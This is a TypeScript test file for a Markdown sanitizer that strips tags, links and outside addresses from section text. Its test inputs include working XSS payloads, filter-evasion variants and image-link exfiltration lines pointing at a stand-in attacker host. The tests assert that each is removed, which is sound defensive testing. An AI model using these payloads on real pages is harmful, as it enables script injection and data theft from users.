import assert from "node:assert/strict";
import { test } from "node:test";
import { safeLine, safeMarkdown, saidIn } from "./sanitize.ts";
import { isEmptySection, renderMarkdown, renderText, type SectionData, toSectionData } from "./sections.ts";

const said = saidIn(
  "Have a look at https://port.example/contract or write to anna@port.example, says Booking.com",
);

const table: [name: string, data: SectionData, markdown: string, text: string][] = [
  [
    "text",
    { kind: "text", text: "### Head\n\nA **b** `c`\n\n* d" },
    "### Head\n\nA **b** `c`\n\n* d",
    "Head\n\nA b c\n\n- d",
  ],
  ["text, empty", { kind: "text", text: "" }, "", ""],
  [
    "bullets",
    { kind: "bullets", items: ["One *two*", "snake_case_name"] },
    "- One *two*\n- snake_case_name",
    "- One two\n- snake_case_name",
  ],
  ["bullets, empty", { kind: "bullets", items: [] }, "", ""],
  [
    "checklist",
    {
      kind: "checklist",
      items: [
        { text: "a", checked: true },
        { text: "b", checked: false },
      ],
    },
    "- [x] a\n- [ ] b",
    "[x] a\n[ ] b",
  ],
  ["checklist, empty", { kind: "checklist", items: [] }, "", ""],
  [
    "table",
    {
      kind: "table",
      columns: ["a|b", "c"],
      rows: [
        ["1", "2 \\| 3"],
        ["", "4"],
      ],
    },
    "| a\\|b | c |\n| --- | --- |\n| 1 | 2 \\\\\\| 3 |\n|  | 4 |",
    "a|b | c\n1 | 2 \\| 3\n | 4",
  ],
  ["table, empty", { kind: "table", columns: [], rows: [] }, "", ""],
  [
    "question-answer",
    {
      kind: "question-answer",
      items: [
        { question: "Why *now*?", answer: "So." },
        { question: "When?", answer: "" },
      ],
    },
    "**Why \\*now\\*?**\n\nSo.\n\n**When?**\n\n",
    "Q: Why now?\nA: So.\n\nQ: When?\nA: ",
  ],
  ["question-answer, empty", { kind: "question-answer", items: [] }, "", ""],
];
for (const [name, data, markdown, text] of table) {
  test(`rendering: ${name}`, () => {
    assert.equal(renderMarkdown(data), markdown);
    assert.equal(renderText(data), text);
    assert.equal(isEmptySection(data), name.endsWith("empty"));
  });
}

test("section data: rows as wide as the table, nothing empty, bounded", () => {
  assert.deepEqual(
    toSectionData("table", { columns: ["a", "b"], rows: [["1"], ["1", "2", "3"], ["", ""], []] }, said),
    {
      kind: "table",
      columns: ["a", "b"],
      rows: [
        ["1", ""],
        ["1", "2"],
      ],
    },
  );
  assert.deepEqual(toSectionData("table", { columns: [], rows: [["1"]] }, said), {
    kind: "table",
    columns: [],
    rows: [],
  });
  assert.deepEqual(toSectionData("bullets", { items: ["a\nb", " ", "<b></b>"] }, said), {
    kind: "bullets",
    items: ["a b"],
  });
  const many = toSectionData(
    "bullets",
    { items: Array.from({ length: 1000 }, () => "x".repeat(5000)) },
    said,
  );
  assert.ok(many.kind === "bullets" && many.items.length === 200 && many.items[0]?.length === 2000);
  assert.throws(() => toSectionData("checklist", { items: ["a"] }, said));
});

for (const [input, expected] of [
  ["Plain **bold** _text_ with `code`", "Plain **bold** _text_ with `code`"],
  ["1 < 2 and a > b & c", "1 < 2 and a > b & c"],
  ["<script>alert(1)</script>Hi", "Hi"],
  ["<ScRiPt src=x>Hi</sCrIpT >", ""],
  ["<img src=x onerror=alert(1)>Hi", "Hi"],
  ["<scr<script>ipt>alert(1)</scr</script>ipt>", ""],
  ["a <b onclick=x()>b</b> <!-- c --> d", "a b d"],
  ["&lt;img src=x onerror=alert(1)&gt;Hi", "Hi"],
  ["&amp;lt;img src=x&amp;gt;Hi", "Hi"],
  ["\\<script>alert(1)", "\\alert(1)"],
  ["<img src=x onerror=alert(1)", "&lt;img src=x onerror=alert(1)"],
  ["![track](https://evil.example/p.png?d=secret)", "track"],
  ["![a][b]\n[b]: https://evil.example/x", "a"],
  ["[click](https://evil.example/login)", "click ([link removed])"],
  ["[click](javascript:alert(1))", /^click( \(\[link removed\]\))?\)?$/],
  ["[click](javascript&#58;alert(1))", /^click( \(\[link removed\]\))?\)?$/],
  ["[click](/logout)", "click"],
  ["[a](b](https://evil.example/c)", /^\[?a\b/],
  ["[a][b] and [c]", "a and [c]"],
  ["> [x]: https://evil.example 'y'", ""],
  ["<https://evil.example/a>", "[link removed]"],
  ["see https://evil.example/a?q=1.", "see [link removed]."],
  ["see HTTPS://EVIL.example", "see [link removed]"],
  ["see www.evil.example/a", "see [link removed]"],
  ["see evil.com/a?data=secret now", "see [link removed] now"],
  ["see secret.evil.com", "see [link removed]"],
  ["mailto:eve@evil.example", "[link removed]"],
  ["ask eve@evil.example", "ask [link removed]"],
  ["data:text/html,hi", "[link removed]"],
  ["ftp://evil.example/a", "[link removed]"],
  ["h\u200bttps://evil.example", "[link removed]"],
  ["htt<b></b>ps://evil.example", "[link removed]"],
  ["see https://port.example/contract.", "see https://port.example/contract."],
  ["[draft](https://port.example/contract)", "draft (https://port.example/contract)"],
  ["ask anna@port.example at Booking.com", "ask anna@port.example at Booking.com"],
  ["https://port.example/contract?steal=1", "[link removed]"],
  ["Node.js, e.g. v1.2 at 10:30, etc. 3.5 and/or", "Node.js, e.g. v1.2 at 10:30, etc. 3.5 and/or"],
  ["a\u202eb\u0000c", /^ab ?c$/],
] as const) {
  test(`safe Markdown: ${JSON.stringify(input)}`, () => {
    const safe = safeMarkdown(input, said);
    if (expected instanceof RegExp) assert.match(safe, expected);
    else assert.equal(safe, expected);
    assert.doesNotMatch(safe, /<[a-z/!?]|\]\(|\]\[|\]:|!\[|evil|javascript:/i);
    assert.equal(safeMarkdown(safe, said), safe, "it stays as it is");
  });
}

test("safe Markdown: made of pieces at random, it never holds a tag, a link or an address", () => {
  const pieces = [
    "<",
    ">",
    "[",
    "]",
    "(",
    ")",
    "!",
    ":",
    "\\",
    "/",
    "img",
    "a",
    "script",
    "https://e.com",
    "javascript:",
    "&lt;",
    "&#60;",
    "&#x3c;",
    "\n",
    " ",
    "`",
    "]:",
    "](",
    "e.com/x",
    "<!--",
    "-->",
    "&amp;",
  ];
  let seed = 1;
  const random = (): number => {
    seed = (seed * 48_271) % 2_147_483_647;
    return seed / 2_147_483_647;
  };
  for (let round = 0; round < 20_000; round += 1) {
    const text = Array.from(
      { length: 1 + Math.floor(random() * 14) },
      () => pieces[Math.floor(random() * pieces.length)],
    ).join("");
    for (const safe of [safeMarkdown(text, said), safeLine(text, said)])
      assert.doesNotMatch(safe, /<[a-z/!?]|\]\(|\]\[|\]:|!\[|https:|e\.com/i, JSON.stringify(text));
  }
});

test("safe Markdown: lines stay, too many blank ones don't; a line is cut at its length", () => {
  assert.equal(safeMarkdown("# A\r\n\r\n\r\n\r\n- b\n  - c\n", said), "# A\n\n- b\n  - c");
  assert.equal(safeLine("a\nb", said), "a b");
  assert.equal(safeLine("x".repeat(50), said, 10), `${"x".repeat(9)}…`);
});

test("safe Markdown: hostile lengths take no time", () => {
  for (const text of [
    "[".repeat(100_000),
    "<a ".repeat(50_000),
    "![".repeat(50_000),
    "a.".repeat(50_000),
    "&#".repeat(50_000),
    "[a](".repeat(30_000),
    "<!--".repeat(30_000),
    "<script".repeat(20_000),
    "a@a.".repeat(30_000),
  ]) {
    const began = performance.now();
    safeMarkdown(text, said);
    assert.ok(performance.now() - began < 3000, `${text.slice(0, 10)} took ${performance.now() - began} ms`);
  }
});
